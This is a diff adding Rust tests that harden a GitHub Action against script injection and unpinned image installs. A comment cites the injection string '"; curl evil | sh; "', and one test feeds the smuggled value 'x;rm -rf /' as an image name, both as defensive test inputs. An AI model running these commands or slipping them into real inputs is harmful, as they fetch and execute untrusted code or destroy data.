@@ -361,3 +361,64 @@ async fn wait_polls_the_dashboard_until_the_sessions_of_a_commit_end() {
     assert_eq!(run.outputs.get("session-result").map(String::as_str), Some("broken summary"));
     assert!(run.summary.contains("| `broken` | Failed |"), "{}", run.summary);
 }
+
+/// No input reaches a `run:` script by interpolation (an input such as
+/// `"; curl evil | sh; "` would run); every step takes inputs from `env:`.
+#[test]
+fn action_inputs_reach_scripts_only_through_the_environment() {
+    let text = std::fs::read_to_string(acp_testenv::env::repo_root().join("action.yml")).expect("action.yml");
+    let action: serde_json::Value = serde_saphyr::from_str(&text).expect("action.yml is YAML");
+    let steps = action["runs"]["steps"].as_array().expect("steps");
+    assert!(!steps.is_empty());
+    for step in steps {
+        let run = step["run"].as_str().unwrap_or_default();
+        assert!(!run.contains("${{"), "a run: script interpolates an expression: {run}");
+        let name = step["name"].as_str().unwrap_or_default();
+        assert!(!name.contains("inputs."), "a step name interpolates an input: {name}");
+    }
+}
+
+/// The install step takes the image only pinned by digest, and copies the
+/// binary out of exactly that reference (docker is played by a script that
+/// records its arguments: there is no Docker engine here).
+#[test]
+fn the_action_installs_acp_only_from_an_image_pinned_by_digest() {
+    let root = acp_testenv::env::repo_root();
+    let tmp = tempfile::tempdir().expect("tmp");
+    let bin = tmp.path().join("bin");
+    std::fs::create_dir_all(&bin).expect("bin");
+    let calls = tmp.path().join("docker-calls");
+    std::fs::write(
+        bin.join("docker"),
+        format!(
+            "#!/bin/sh\necho \"$@\" >> {}\ncase $1 in create) echo c0ffee ;; cp) printf '#!/bin/sh\\n' > \"$3\"; chmod +x \"$3\" ;; esac\n",
+            calls.display()
+        ),
+    )
+    .expect("fake docker");
+    std::process::Command::new("chmod").arg("+x").arg(bin.join("docker")).status().expect("chmod");
+    let install = |image: &str| {
+        std::process::Command::new("bash")
+            .arg(root.join("hack/action-install"))
+            .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default()))
+            .env("ACP_IMAGE", image)
+            .env("ACP_ACTION_PATH", &root)
+            .env("RUNNER_TEMP", tmp.path())
+            .env("GITHUB_PATH", tmp.path().join("github-path"))
+            .output()
+            .expect("install runs")
+    };
+    for unpinned in ["ghcr.io/acp-dev/acp:0.1.0", "ghcr.io/acp-dev/acp:latest", "x;rm -rf /", ""] {
+        let out = install(unpinned);
+        assert!(!out.status.success(), "{unpinned:?} was accepted");
+        assert!(String::from_utf8_lossy(&out.stderr).contains("pinned by digest"), "{unpinned:?}");
+    }
+    assert!(!calls.exists(), "docker was never called for an unpinned image");
+    let pinned = format!("ghcr.io/acp-dev/acp@sha256:{}", "ab".repeat(32));
+    let out = install(&pinned);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let recorded = std::fs::read_to_string(&calls).expect("docker calls");
+    assert!(recorded.starts_with(&format!("create {pinned}\n")), "{recorded}");
+    let path = std::fs::read_to_string(tmp.path().join("github-path")).expect("GITHUB_PATH");
+    assert!(path.trim().ends_with(&format!("acp-{}", "ab".repeat(32))), "{path}");
+}
